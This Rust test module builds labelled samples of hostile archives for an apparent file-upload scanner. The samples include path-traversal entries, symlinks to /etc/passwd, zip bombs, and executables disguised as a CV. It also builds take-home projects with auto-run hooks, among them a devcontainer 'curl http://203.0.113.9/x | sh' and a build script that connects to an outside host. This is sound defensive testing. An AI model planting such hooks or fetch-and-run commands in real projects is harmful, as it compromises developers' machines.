//! Hostile archives.

use std::io::{Cursor, Write};

use flate2::Compression;
use flate2::write::GzEncoder;
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

use super::Expected::{self, Clean, Dangerous, Suspicious};
use super::{Samples, program};

/// A ZIP archive of files.
pub(super) fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in files {
        let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
        if writer.start_file(*name, options).is_ok() {
            let _ = writer.write_all(bytes);
        }
    }
    writer.finish().map(Cursor::into_inner).unwrap_or_default()
}

/// An entry of an archive that is written by hand, so that it can lie.
struct Entry<'a> {
    name: &'a [u8],
    bytes: &'a [u8],
    flags: u16,
    method: u16,
    /// What it says of its length.
    says: u32,
    mode: u32,
}

impl<'a> Entry<'a> {
    fn of(name: &'a [u8], bytes: &'a [u8]) -> Self {
        Self { name, bytes, flags: 0, method: 0, says: u32::try_from(bytes.len()).unwrap_or(u32::MAX), mode: 0o100_644 }
    }
}

/// A ZIP archive by hand; `shared` lets all entries of the index point at the first.
fn by_hand(entries: &[Entry<'_>], shared: bool) -> Vec<u8> {
    let (mut out, mut index) = (Vec::new(), Vec::new());
    for entry in entries {
        let place = if shared { 0 } else { u32::try_from(out.len()).unwrap_or(0) };
        let crc = crc(entry.bytes);
        let packed = u32::try_from(entry.bytes.len()).unwrap_or(0);
        let length = u16::try_from(entry.name.len()).unwrap_or(0);
        let common = [
            entry.flags.to_le_bytes().as_slice(),
            &entry.method.to_le_bytes(),
            &[0, 0, 0x21, 0x58],
            &crc.to_le_bytes(),
            &packed.to_le_bytes(),
            &entry.says.to_le_bytes(),
            &length.to_le_bytes(),
            &[0, 0],
        ]
        .concat();
        if !shared || out.is_empty() {
            out.extend([b"PK\x03\x04\x14\0".as_slice(), &common, entry.name, entry.bytes].concat());
        }
        index.extend(
            [b"PK\x01\x02\x14\x03\x14\0".as_slice(), &common, &[0; 6], &(entry.mode << 16).to_le_bytes(), &place.to_le_bytes(), entry.name].concat(),
        );
    }
    let count = u16::try_from(entries.len()).unwrap_or(u16::MAX).to_le_bytes();
    let (size, start) = (u32::try_from(index.len()).unwrap_or(0).to_le_bytes(), u32::try_from(out.len()).unwrap_or(0).to_le_bytes());
    [out, index, b"PK\x05\x06\0\0\0\0".to_vec(), count.to_vec(), count.to_vec(), size.to_vec(), start.to_vec(), vec![0, 0]].concat()
}

fn crc(bytes: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    crc.sum()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let _ = encoder.write_all(bytes);
    encoder.finish().unwrap_or_default()
}

/// A tar archive of one entry.
fn tape(name: &str, kind: u8, link: &str, bytes: &[u8]) -> Vec<u8> {
    let mut head = [0_u8; 512];
    let mut put = |at: usize, text: &[u8]| head.iter_mut().skip(at).zip(text).for_each(|(place, byte)| *place = *byte);
    put(0, name.as_bytes());
    put(100, b"0000644\0");
    put(124, format!("{:011o}\0", bytes.len()).as_bytes());
    put(136, b"00000000000\0");
    put(148, b"        ");
    put(156, &[kind]);
    put(157, link.as_bytes());
    put(257, b"ustar\x0000");
    let sum: u32 = head.iter().map(|byte| u32::from(*byte)).sum();
    head.iter_mut().skip(148).zip(format!("{sum:06o}\0 ").as_bytes()).for_each(|(place, byte)| *place = *byte);
    let padding = vec![0; (512 - bytes.len() % 512) % 512 + 1024];
    [head.to_vec(), bytes.to_vec(), padding].concat()
}

pub(super) fn add(samples: &mut Samples) {
    let text = b"Jane Roe\njane.roe@example.org\nSoftware Engineer\n".as_slice();
    let mut add = |what: &str, name: &str, bytes: Vec<u8>, expected: Expected| samples.add("archive", what, name, bytes, expected);
    add("a résumé", "cv.zip", zip(&[("cv.txt", text)]), Clean);
    for (what, name) in [
        ("up", "../../evil.txt"),
        ("root", "/etc/cron.d/evil"),
        ("backslashes", "..\\..\\evil.txt"),
        ("drive", "C:\\Windows\\evil.txt"),
        ("hidden in the middle", "a/../../evil.txt"),
    ] {
        add(&format!("path: {what}"), "cv.zip", by_hand(&[Entry::of(name.as_bytes(), text)], false), Dangerous("traversal"));
    }
    add("link", "cv.zip", by_hand(&[Entry { mode: 0o120_777, ..Entry::of(b"cv.txt", b"/etc/passwd") }], false), Suspicious("link-entry"));
    add("locked", "cv.zip", by_hand(&[Entry { flags: 1, ..Entry::of(b"cv.pdf", text) }], false), Suspicious("encrypted"));
    add(
        "an entry twice",
        "cv.zip",
        by_hand(&[Entry::of(b"cv.txt", text), Entry::of(b"cv.txt", b"another text for another program")], false),
        Suspicious("archive-contradicts"),
    );
    let many: Vec<Entry<'_>> = (0..50).map(|n| Entry::of([b"a.txt".as_slice(), b"b.txt", b"c.txt", b"d.txt", b"e.txt"][n % 5], text)).collect();
    add("entries over each other", "cv.zip", by_hand(&many, true), Dangerous("bomb"));
    let stored = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n";
    add("a PDF that is not packed", "cv.zip", by_hand(&[Entry::of(b"cv.pdf", stored), Entry::of(b"b.txt", text)], false), Clean);
    let zeros = vec![0_u8; 60 << 20];
    add("60 MiB of zeros", "cv.zip", zip(&[("cv.txt", &zeros)]), Dangerous("bomb"));
    add(
        "60 MiB of zeros, five times",
        "cv.zip",
        zip(&[("a.txt", &zeros), ("b.txt", &zeros), ("c.txt", &zeros), ("d.txt", &zeros), ("e.txt", &zeros)]),
        Dangerous("bomb"),
    );
    let inner = zip(&[("cv.txt", &zeros)]);
    add("a bomb in an archive", "cv.zip", zip(&[("inner.zip", &inner)]), Dangerous("bomb"));
    let mut nested = zip(&[("cv.txt", text)]);
    for depth in 0..12 {
        nested = zip(&[(&format!("level-{depth}.zip"), &nested)]);
    }
    add("twelve in each other", "cv.zip", nested, Suspicious("too-deep"));
    add("a length that lies", "cv.zip", by_hand(&[Entry { says: 9, ..Entry::of(b"cv.txt", text) }], false), Clean);
    add("a method that nobody knows", "cv.zip", by_hand(&[Entry { method: 77, ..Entry::of(b"cv.txt", text) }], false), Clean);
    let names: Vec<String> = (0..5_000).map(|n| format!("f{n}.txt")).collect();
    let files: Vec<Entry<'_>> = names.iter().map(|name| Entry::of(name.as_bytes(), b"x")).collect();
    add("five thousand entries", "cv.zip", by_hand(&files, false), Clean);
    for (name, bytes, finding) in [
        ("cv.exe", program(), "executable"),
        ("cv.pdf.exe", program(), "disguised-name"),
        ("cv.lnk", super::files::shortcut(), "shortcut"),
        ("cv.iso", super::files::disk(), "disk-image"),
        ("cv.hta", b"<script>x</script>".to_vec(), "script-file"),
        ("cv.vbs", b"WScript.Echo 1".to_vec(), "script-file"),
        ("cv.js", b"WScript.Echo(1)".to_vec(), "script-file"),
        ("cv.bat", b"@echo off\r\ncalc.exe".to_vec(), "script-file"),
        ("cv.ps1", b"Start-Process calc".to_vec(), "script-file"),
        ("cv.scr", program(), "executable"),
        ("cv.docm", super::office::docm("Sub AutoOpen()\nShell \"calc\"\nEnd Sub\n"), "macro-auto-run"),
    ] {
        add(
            &format!("{name} within"),
            "cv.zip",
            zip(&[("readme.txt", text), (name, &bytes)]).clone(),
            if name == "cv.js" { Clean } else { Dangerous(finding) },
        );
        add(&format!("{name} alone within"), "cv.zip", zip(&[(name, &bytes)]), Dangerous(finding));
    }
    for (what, kind, link, name, expected) in [
        ("tar: a résumé", b'0', "", "cv.txt", Clean),
        ("tar: a path up", b'0', "", "../../cv.txt", Dangerous("traversal")),
        ("tar: a link", b'2', "/etc/passwd", "cv.txt", Suspicious("link-entry")),
    ] {
        let bytes = tape(name, kind, link, if kind == b'0' { text } else { b"" });
        add(what, "cv.tar", bytes.clone(), expected);
        add(&format!("{what}, packed"), "cv.tar.gz", gzip(&bytes), expected);
    }
    add("gzip: 60 MiB of zeros", "cv.gz", gzip(&zeros), Dangerous("bomb"));
    for (what, bytes) in [
        ("RAR", b"Rar!\x1a\x07\x01\0".as_slice()),
        ("7z", b"7z\xbc\xaf\x27\x1c\0\x04"),
        ("CAB", b"MSCF\0\0\0\0"),
        ("xz", b"\xfd7zXZ\0\0"),
        ("bzip2", b"BZh91AY&SY"),
        ("zstd", b"\x28\xb5\x2f\xfd\0"),
    ] {
        add(what, "cv.archive", [bytes, &[7; 100]].concat(), Suspicious("unread-archive"));
    }
    project(samples);
}

/// Tasks to take home that run code on install.
fn project(samples: &mut Samples) {
    let mut add = |what: &str, files: &[(&str, &str)], expected: Expected| {
        let files: Vec<(&str, &[u8])> = files.iter().map(|(name, text)| (*name, text.as_bytes())).collect();
        samples.add("project", what, "take-home.zip", zip(&files), expected);
    };
    let install = Dangerous("install-script");
    let index = ("task/index.js", "console.log('hello')");
    for hook in ["preinstall", "install", "postinstall", "prepare"] {
        let manifest = format!("{{\"name\":\"task\",\"scripts\":{{\"{hook}\":\"node lib/telemetry.js\",\"test\":\"jest\"}}}}");
        add(hook, &[("task/package.json", &manifest), index], install);
    }
    add("builds and tests", &[("task/package.json", "{\"name\":\"task\",\"scripts\":{\"build\":\"vite build\",\"test\":\"vitest\"}}"), index], Clean);
    add("a hook that all use", &[("task/package.json", "{\"scripts\":{\"prepare\":\"husky\"}}"), index], Clean);
    add(
        "a dependency from an address",
        &[("task/package.json", "{\"dependencies\":{\"chart\":\"https://files.example/chart.tgz\"}}"), index],
        install,
    );
    add("setup.py", &[("task/setup.py", "import subprocess\nfrom setuptools import setup\nsubprocess.run(['calc'])\nsetup()")], install);
    add("setup.py that installs", &[("task/setup.py", "from setuptools import setup\nsetup(name='task')")], Clean);
    add(
        "a task of the editor",
        &[("task/.vscode/tasks.json", "{\"tasks\":[{\"command\":\"node x\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}"), index],
        install,
    );
    add("a hook of Git", &[("task/.git/hooks/post-checkout", "#!/bin/sh\ncalc"), index], install);
    add("a sample of a hook", &[("task/.git/hooks/pre-commit.sample", "#!/bin/sh\nexit 0"), index], Clean);
    add("a command in Git's settings", &[("task/.git/config", "[core]\n\tfsmonitor = ./x.sh"), index], install);
    add("an environment that is entered", &[("task/.envrc", "source_url http://203.0.113.9/x"), index], install);
    add(
        "a container's command",
        &[("task/.devcontainer/devcontainer.json", "{\"postCreateCommand\":\"curl http://203.0.113.9/x | sh\"}"), index],
        install,
    );
    add(
        "a build script that connects",
        &[("task/build.rs", "fn main() { std::net::TcpStream::connect(\"203.0.113.9:80\"); }"), ("task/Cargo.toml", "[package]")],
        install,
    );
    add("another's modules", &[("task/node_modules/x/package.json", "{\"scripts\":{\"postinstall\":\"node x\"}}"), index], Clean);
}
